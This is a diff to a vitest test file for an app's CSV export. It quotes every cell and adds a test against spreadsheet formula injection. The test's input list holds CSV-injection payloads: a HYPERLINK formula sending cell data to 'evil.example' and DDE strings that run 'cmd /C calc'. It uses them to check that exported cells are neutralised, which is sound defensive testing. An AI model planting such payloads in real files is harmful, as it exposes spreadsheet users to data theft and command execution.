@@ -8,7 +8,8 @@ import { importFinished } from './support/imports.js';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { databases } from './support/databases.js';
 import type { TestClient } from './support/client.js';
-import { createNote, signUp } from './support/factories.js';
+import { parse } from 'csv-parse/sync';
+import { createChannel, createNote, signUp } from './support/factories.js';
 import { startTestApp, type TestApp } from './support/harness.js';
 import { ANOTHER_CREATOR, FAKE_CREATOR, QUIET_CHANNEL } from './fakes/youtube.js';
 
@@ -193,13 +194,41 @@ describe.each(databases)('profile picture, export and import on %s', (kind) => {
         'channel-countdown-channels-2026-11-01.csv',
       );
       expect(channels.body.split('\n')[0]).toBe(
-        'Channel Id,Channel Url,Channel Title,Subscribers,Videos,Views,Connected At,Cycle Start,Cycle End,Cycle Paused,Cycles Completed',
+        '"Channel Id","Channel Url","Channel Title","Subscribers","Videos","Views","Connected At","Cycle Start","Cycle End","Cycle Paused","Cycles Completed"',
       );
       expect(channels.body).toContain(
-        `${FAKE_CREATOR.id},https://www.youtube.com/channel/${FAKE_CREATOR.id},Fake Creator,`,
+        `"${FAKE_CREATOR.id}","https://www.youtube.com/channel/${FAKE_CREATOR.id}","Fake Creator",`,
       );
       const notes = await client.get(`${paths.userExport}?format=csv&what=notes`);
       expect(notes.body).toContain('"Line one,\nline ""two"""');
+    });
+
+    it('writes no cell a spreadsheet would run as a formula (OWASP CSV injection)', async () => {
+      const { client, user } = await fresh();
+      const formulas = [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "+cmd|' /C calc'!A0",
+        '-2+3',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        '\t=1+1',
+        '\r=1+1',
+      ];
+      const channel = await createChannel(t.db, user.id, t.clock.now(), { channelName: formulas[0] });
+      for (const formula of formulas) await createNote(t.db, channel.id, t.clock.now(), formula);
+      await createNote(t.db, channel.id, t.clock.now(), 'An ordinary note, "with" a quote');
+
+      const channels = await client.get(`${paths.userExport}?format=csv&what=channels`);
+      const [channelRow] = parse(channels.body, { columns: true }) as Record<string, string>[];
+      expect(channelRow!['Channel Title']).toBe(`'${formulas[0]}`);
+
+      const notes = await client.get(`${paths.userExport}?format=csv&what=notes`);
+      const rows = parse(notes.body, { columns: true }) as Record<string, string>[];
+      expect(rows.map((row) => row.Note).sort()).toEqual(
+        [...formulas.map((formula) => `'${formula}`), 'An ordinary note, "with" a quote'].sort(),
+      );
+      expect(rows.every((row) => row['Channel Title'] === `'${formulas[0]}`)).toBe(true);
+      // Every cell is quoted, so no cell can start a line of its own with a formula.
+      for (const line of notes.body.trim().split(/\r?\n(?=")/)) expect(line.startsWith('"')).toBe(true);
     });
 
     it('refuses an unknown format with 400, and visitors with 401', async () => {
